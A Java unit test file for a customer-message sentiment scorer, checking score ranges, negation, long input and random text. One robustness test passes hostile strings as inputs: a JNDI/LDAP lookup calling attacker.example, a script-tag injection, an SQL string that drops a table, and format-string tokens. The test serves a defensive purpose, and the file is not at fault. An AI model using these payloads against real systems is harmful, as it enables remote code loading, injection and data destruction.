package io.casedesk.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import java.time.Duration;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class CustomerSentimentTest {

    private final CustomerSentiment sentiment = new CustomerSentiment();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "This is terrible! I hate your service. Worst experience ever, I am furious and want my money back NOW!",
                "Your app is useless and broken again. I'm angry and disappointed, this is a horrible joke.",
                "Absolutely awful. You charged me twice and nobody helps. Disgusting."
            })
    void angryTextIsClearlyNegative(String text) {
        assertThat(sentiment.score(text)).isLessThan(-0.5);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Thank you so much, the replacement arrived and it works great!",
                "Thanks a lot for the quick help, I really appreciate it. Excellent support!"
            })
    void thankfulTextIsPositive(String text) {
        assertThat(sentiment.score(text)).isGreaterThan(0.5);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "My order number is 4711 and I placed it on Monday.",
                "The delivery address is Hauptstrasse 5, Berlin.",
                "Where is my parcel?"
            })
    void neutralTextIsNearZero(String text) {
        assertThat(sentiment.score(text)).isCloseTo(0.0, within(0.2));
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(strings = {"", " ", "   \t\n  "})
    void emptyOrBlankTextScoresZero(String text) {
        assertThat(sentiment.score(text)).isZero();
    }

    @Test
    void negationTurnsTheScore() {
        assertThat(sentiment.score("The refund was good.")).isPositive();
        assertThat(sentiment.score("The refund was not good.")).isNegative();
    }

    /** Intake scores subject and description: up to 300 + 10,000 characters (NewCaseRequest). */
    @Test
    @Timeout(10)
    void textAsLongAsIntakeAllowsIsScored() {
        String paragraph = "I ordered a blue kettle three weeks ago and it still has not arrived. "
                + "The tracking page says it left the warehouse but nothing has moved since. "
                + "This is really frustrating and I am very unhappy with how long this takes. ";
        String longText = paragraph.repeat(10_300 / paragraph.length());

        double score = sentiment.score(longText);

        assertThat(score).isBetween(-1.0, 1.0).isNegative();
    }

    @Test
    @Timeout(10)
    void oneLongRunOnSentenceIsScored() {
        assertThat(sentiment.score("not bad ".repeat(10_300 / 8))).isBetween(-1.0, 1.0);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://attacker.example/a} ${env:HOME} #{7*7}",
                "<script>alert('you are hacked')</script> I hate this",
                "'; DROP TABLE cases; --",
                "%s %n %x {0} \u0000 \\u0000",
                "!!!???...,,,;;;",
                ":) :( :D <3 </3",
                "\uD83D\uDE21\uD83D\uDE21 \uD83D\uDC4D",
                "Größe falsch, Lieferung kaputt, sehr ärgerlich",
                "ВСЁ СЛОМАНО 全部坏了"
            })
    void unusualTextIsJustScored(String text) {
        assertThat(sentiment.score(text)).isBetween(-1.0, 1.0);
    }

    @Test
    void scriptTagsDoNotChangeTheReadingOfTheWords() {
        assertThat(sentiment.score("<script>alert('x')</script> I hate this, it is awful"))
                .isNegative();
        assertThat(sentiment.score("${customerName} thanks, great work")).isPositive();
    }

    @Test
    void sameTextSameScore() {
        String text = "The package arrived damaged, I'm not happy.";

        assertThat(sentiment.score(text)).isEqualTo(sentiment.score(text));
    }

    @Test
    void alwaysWithinMinusOneAndOne() {
        Random random = new Random(42);
        String[] words = {
            "great",
            "terrible",
            "not",
            "very",
            "!!!",
            "HATE",
            "love",
            "refund",
            "broken",
            "thanks",
            "but",
            "never",
            "kind of",
            "worst",
            "best",
            ":)",
            ":(",
            "no",
            "extremely",
            "?",
            "ok",
            "the",
            "order"
        };
        long deadline = System.nanoTime() + Duration.ofSeconds(20).toNanos();

        for (int i = 0; i < 500 && System.nanoTime() < deadline; i++) {
            StringBuilder text = new StringBuilder();
            int length = random.nextInt(40);
            for (int w = 0; w < length; w++) {
                text.append(words[random.nextInt(words.length)]).append(random.nextInt(5) == 0 ? ". " : " ");
            }

            assertThat(sentiment.score(text.toString())).as(text.toString()).isBetween(-1.0, 1.0);
        }
    }
}
